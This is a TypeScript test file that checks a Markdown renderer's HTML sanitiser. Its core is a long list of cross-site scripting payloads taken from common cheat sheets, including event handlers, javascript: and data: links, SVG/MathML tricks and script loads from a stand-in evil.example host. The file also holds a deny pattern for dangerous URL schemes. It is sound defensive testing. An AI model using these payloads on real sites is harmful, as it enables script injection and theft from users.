/** What somebody wrote → what a page shows: nothing that runs, nothing that poses as a part of the page. */
import { defaultTreeAdapter, parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, test } from 'vitest';
import { renderMarkdown, type RenderOptions } from '../../../src/markdown/render.ts';

const OPTIONS: RenderOptions = {
  footnotes: 'Footnotes',
  footnoteBack: 'Back to the text',
  taskDone: 'Done',
  taskOpen: 'Open',
  table: 'Table',
};

const html = (markdown: string, options: Partial<RenderOptions> = {}): string =>
  renderMarkdown(markdown, { ...OPTIONS, ...options }).html;

interface Element {
  name: string;
  attributes: Readonly<Record<string, string>>;
}

/** All elements that a browser would see: this parser follows the standard, other than the one that sanitises. */
const elementsIn = (markup: string): Element[] => below(parseFragment(markup));

const below = (node: DefaultTreeAdapterTypes.Node): Element[] => {
  const inside = 'childNodes' in node ? node.childNodes.flatMap(below) : [];
  const content = 'content' in node ? below(node.content) : [];
  if (!defaultTreeAdapter.isElementNode(node)) return [...inside, ...content];
  const attributes = Object.fromEntries(node.attrs.map(({ name, value }) => [name, value]));
  return [{ name: node.tagName, attributes }, ...inside, ...content];
};

const ALLOWED = new Set(
  'p br hr em strong del code pre blockquote sup sub kbd mark abbr span div ul ol li dl dt dd input table thead tbody tr th td h1 h2 h3 h4 h5 h6 a img section figure figcaption details summary'.split(
    ' ',
  ),
);
const PLAIN_ATTRIBUTES = new Set(
  'href title id class rel aria-label src alt width height loading decoding type checked disabled scope data-align start open tabindex role'.split(
    ' ',
  ),
);
/** Browsers skip control characters and spaces before an address, tabs and line ends inside it. */
const RUNS = /^(?:javascript|vbscript|data|file|blob|about|livescript|mocha|view-source):/i;

const assertSafe = (markup: string): void => {
  for (const { name, attributes } of elementsIn(markup)) {
    expect(ALLOWED, `<${name}>`).toContain(name);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(PLAIN_ATTRIBUTES, `${name} ${attribute}`).toContain(attribute);
      if (attribute === 'href' || attribute === 'src') expect(value.replaceAll(/[\p{C}\p{Z}]/gu, '')).not.toMatch(RUNS);
    }
    if (name === 'img') expect(attributes['src']).toMatch(/^\/(?![/\\])/);
    if (name === 'input') expect(attributes).toMatchObject({ type: 'checkbox', disabled: '' });
  }
};

/** From the common cheat sheets, one a line; each is tried as a block, inside a paragraph, and in a table. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src=x>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<script src=//evil.example/x.js',
  '</script><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  '<img src="x:x" onerror="alert(1)">',
  '<img srcset="https://evil.example/x 2x">',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">x</div>',
  '<p onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<a onmouseover=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](< javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](x "onclick=alert(1)")',
  '[x](https://ok.example "a\\" onclick=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x" onerror="alert(1)](/media/a.png)',
  '![x](/media/a.png"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<svg onload=alert(1)></svg>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,x"></use></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></style></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,x">',
  '<applet code="x"></applet>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=q><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="https://evil.example/x">',
  '<input type="checkbox" form="f" name="q" onclick="alert(1)">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td onclick=alert(1)>x</td>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext>x',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<p title="</p><script>alert(1)</script>">x',
  '<a title="x" href="x"onclick="alert(1)">x</a>',
  "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a>",
  '<h2 onclick=alert(1) id="content">x</h2>',
  '<h2><img src=x onerror=alert(1)></h2>',
  '## x <img src=x onerror=alert(1)>',
  '`<script>` <script>alert(1)</script>',
  '```html"><script>alert(1)</script>\nx\n```',
  '| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |',
  'x[^<script>]\n\n[^<script>]: y',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '<custom-element onconnected=alert(1)>x</custom-element>',
  '<portal src="https://evil.example"></portal>',
  '<a href="//evil.example">x</a>',
  '<img src="/\\evil.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<x onclick=alert(1)>x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)',
  '＜script＞alert(1)＜/script＞',
  '<\u0000script>alert(1)</script>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
];

describe('nothing that runs survives', () => {
  test.each(VECTORS)('%j', (vector) => {
    for (const markdown of [
      vector,
      `Some text ${vector} and more.`,
      `> ${vector}`,
      `- ${vector}\n- b`,
      `<div>\n${vector}\n</div>`,
      `<details><summary>${vector}</summary>\n\n${vector}\n\n</details>`,
    ]) {
      assertSafe(html(markdown));
    }
  });

  test('the assertion itself sees what it should', () => {
    for (const unsafe of [
      '<script>',
      '<p onclick=x>',
      '<a href="java&Tab;script:x">',
      '<img src="https://evil.example">',
      '<input type=text>',
      '<svg/onload=x>',
    ]) {
      expect(() => assertSafe(unsafe), unsafe).toThrow();
    }
  });
});

describe('names that could stand for a part of the page are dropped', () => {
  test.each([
    '<a id="content" name="body">x</a>',
    '<img name="getElementById" id="cookie" src="/a.png" alt="">',
    '<form id="x" name="location"></form>',
    '<div id="library-menu">x</div>',
    '<h2 id="content">x</h2>',
    '<li id="content">x</li>',
    '<p id="header-search" class="site-header" role="banner">x</p>',
    '<section id="a" class="hero">x</section>',
    '<span class="visually-hidden" data-cite="x" aria-hidden="true">x</span>',
  ])('%s', (markdown) => {
    for (const { attributes } of elementsIn(html(markdown))) {
      expect(attributes['name']).toBeUndefined();
      expect(['content', 'body', 'cookie', 'a', 'library-menu', 'header-search', 'x-not-there']).not.toContain(
        attributes['id'],
      );
      expect(attributes['class'] ?? '').not.toMatch(/site-header|hero|visually-hidden/);
      expect(attributes['role']).toBeUndefined();
    }
  });
});

describe('GitHub-flavoured Markdown', () => {
  test('footnotes have a list, ways back, and ids of their own', () => {
    expect(html('Yes.[^a] Again.[^a]\n\n[^a]: Because.', { idPrefix: 'answer-' })).toMatchInlineSnapshot(`
      "<p>Yes.<sup><a href="#answer-fn-a" id="answer-fnref-a" class="footnote-ref">1</a></sup> Again.<sup><a href="#answer-fn-a" id="answer-fnref-a-2" class="footnote-ref">1</a></sup></p>
      <section class="footnotes" aria-label="Footnotes"><p class="footnotes-name">Footnotes</p>
      <ol>
      <li id="answer-fn-a">
      <p>Because. <a href="#answer-fnref-a" aria-label="Back to the text" class="footnote-back">↩</a> <a href="#answer-fnref-a-2" aria-label="Back to the text" class="footnote-back">↩<sup>2</sup></a></p>
      </li>
      </ol>
      </section>
      "
    `);
  });

  test('tables scroll in a box that the keyboard reaches', () => {
    expect(html('| a | b |\n| :- | -: |\n| 1 | 2 |', { table: 'Tabelle "A" & <B>' })).toMatchInlineSnapshot(`
      "<div class="table-scroll" tabindex="0" role="group" aria-label="Tabelle &quot;A&quot; &amp; &lt;B>"><table>
      <thead>
      <tr>
      <th scope="col" data-align="left">a</th>
      <th scope="col" data-align="right">b</th>
      </tr>
      </thead>
      <tbody>
      <tr>
      <td data-align="left">1</td>
      <td data-align="right">2</td>
      </tr>
      </tbody>
      </table></div>
      "
    `);
  });

  test('task lists cannot be ticked', () => {
    expect(html('- [x] done\n- [ ] to do')).toMatchInlineSnapshot(`
      "<ul>
      <li><input type="checkbox" aria-label="Done" disabled checked /> done</li>
      <li><input type="checkbox" aria-label="Open" disabled /> to do</li>
      </ul>
      "
    `);
  });

  test.each([
    ['~~old~~', '<p><del>old</del></p>\n'],
    [
      'https://example.com',
      '<p><a href="https://example.com" rel="noopener noreferrer" class="external">https://example.com</a></p>\n',
    ],
    ['[a](/b/ "c")', '<p><a href="/b/" title="c">a</a></p>\n'],
    ['[a](mailto:a@b.example)', '<p><a href="mailto:a@b.example">a</a></p>\n'],
    ['[4 days](#claim:days)', '<p><a href="#claim:days" class="cite">4 days</a></p>\n'],
    ['[a](#b)', '<p><a href="#p-b">a</a></p>\n'],
    ['3. a', '<ol start="3">\n<li>a</li>\n</ol>\n'],
    ['a & b < c', '<p>a &amp; b &lt; c</p>\n'],
    ['', ''],
  ])('%j', (markdown, expected) => {
    expect(html(markdown, { idPrefix: 'p-' })).toBe(expected);
  });
});

describe('headings', () => {
  const ids = (markdown: string, options: Partial<RenderOptions> = {}) =>
    renderMarkdown(markdown, { ...OPTIONS, ...options }).headings.map(({ id }) => id);

  test.each([
    ['# A\n\n## B\n\n### C\n\n## D', 3, [3, 4, 5, 4]],
    ['# A\n\n### B\n\n###### C', 3, [3, 4, 5]],
    ['### A\n\n# B', 2, [2, 2]],
    ['###### A', 2, [2]],
    ['# A\n\n## B\n\n### C', 5, [5, 6, 6]],
  ])('%j below level %d have levels %j, without a gap', (markdown, level, depths) => {
    expect(renderMarkdown(markdown, { ...OPTIONS, level }).headings.map(({ depth }) => depth)).toEqual(depths);
  });

  test.each([
    ['# A\n\n# A\n\n# A', ['a', 'a-1', 'a-2']],
    ['# A\n\n# A\n\n# A-1\n\n# A', ['a', 'a-1', 'a-1-1', 'a-2']],
    ['# A-1\n\n# A\n\n# A', ['a-1', 'a', 'a-2']],
    ['# Über uns & mehr!', ['über-uns-mehr']],
    ['# 日本語', ['日本語']],
    ['# !!!\n\n# ???', ['section', 'section-1']],
    ['# `code` and *more*', ['code-and-more']],
    ['# fn 1\n\nx[^1]\n\n[^1]: y', ['fn-1-1']],
    ['## Footnotes\n\nx[^1]\n\n[^1]: y', ['footnotes']],
  ])('%j have ids %j', (markdown, expected) => {
    expect(ids(markdown)).toEqual(expected);
    const all = elementsIn(html(markdown)).flatMap(({ attributes }) => attributes['id'] ?? []);
    expect(new Set(all).size).toBe(all.length);
  });

  test('carry the prefix of their text', () => {
    expect(ids('# A\n\n# A', { idPrefix: 'why-us-' })).toEqual(['why-us-a', 'why-us-a-1']);
  });

  test('thousands of the same do not stop it', () => {
    const begun = performance.now();
    expect(ids('# A\n\n'.repeat(200_000)).at(-1)).toBe('a-199999');
    expect(performance.now() - begun).toBeLessThan(20_000);
  });
});

describe('pictures', () => {
  test('are lazy and keep their place', () => {
    expect(html('![a chart](/media/abc-1200.webp#w=1200&h=600 "t")')).toBe(
      '<p><img src="/media/abc-1200.webp" alt="a chart" title="t" width="1200" height="600" loading="lazy" decoding="async" /></p>\n',
    );
    expect(html('![](/media/abc.svg)')).toBe(
      '<p><img src="/media/abc.svg" alt="" loading="lazy" decoding="async" /></p>\n',
    );
  });

  // A picture of another host would tell that host who reads what.
  test.each([
    [
      '![a chart](https://other.example/a.png)',
      '<p><a href="https://other.example/a.png" rel="noopener noreferrer" class="external">a chart</a></p>\n',
    ],
    [
      '![](https://other.example/a.png)',
      '<p><a href="https://other.example/a.png" rel="noopener noreferrer" class="external">https://other.example/a.png</a></p>\n',
    ],
    [
      '![a & "b"](https://other.example/?a=1&b=2)',
      '<p><a href="https://other.example/?a=1&amp;b=2" rel="noopener noreferrer" class="external">a &amp; &quot;b&quot;</a></p>\n',
    ],
    ['[![a chart](https://other.example/a.png)](/b/)', '<p><a href="/b/">a chart</a></p>\n'],
    [
      '[![a chart](/media/a.png)](/b/)',
      '<p><a href="/b/"><img src="/media/a.png" alt="a chart" loading="lazy" decoding="async" /></a></p>\n',
    ],
    [
      '<img src="HTTP://other.example/a.png" alt="a chart">',
      '<a href="HTTP://other.example/a.png" rel="noopener noreferrer" class="external">a chart</a>\n',
    ],
    ['<img src="//other.example/a.png" alt="a chart">', 'a chart\n'],
    ['![a chart](a.png)', '<p>a chart</p>\n'],
    ['![a chart](data:image/png;base64,AAAA)', '<p>a chart</p>\n'],
  ])('%s asks no other host', (markdown, expected) => {
    expect(html(markdown)).toBe(expected);
  });
});

test('the same text gives the same HTML', () => {
  const text = '# A\n\nb[^1] ![c](/media/d.png)\n\n[^1]: e\n\n| f |\n| - |\n| g |';
  expect(html(text)).toBe(html(text));
});

describe('a text of plain words is not parsed again', () => {
  const PLAIN = [
    'Two\n\nparagraphs & "quotes" > and [84 hours](#claim:hours).',
    '# One\n\n## Two\n\n- a\n- **b** *c*\n\n1. d\n\n> e\n\n---\n\nf\\\ng',
    'An [unknown claim](#claim:not "with a title").',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
    '| a | b |\n| --- | ---: |\n| 1 | [c](/kits/a-b/) |',
    '| a |\n| :---: |\n| [d](/kits/?q=1) |',
    'A [page](/kits/a/), [none](//a.example/), [up](/../a/) and [home](/).',
    'A [link](javascript:alert(1)), [another](https://a.example/) and `code`.',
  ];
  // A comment is markup of the author's own, and is taken out: the text goes the long way.
  test.each(PLAIN)('and is the same as if it were: %j', (markdown) => {
    const long = html(`${markdown}\n\n<!-- -->\n`);
    const short = html(markdown)
      .replaceAll('&quot;', '"')
      .replaceAll(/<(br|hr)>/g, '<$1 />');
    expect(short.trim()).toBe(long.trim());
    assertSafe(html(markdown));
  });
});
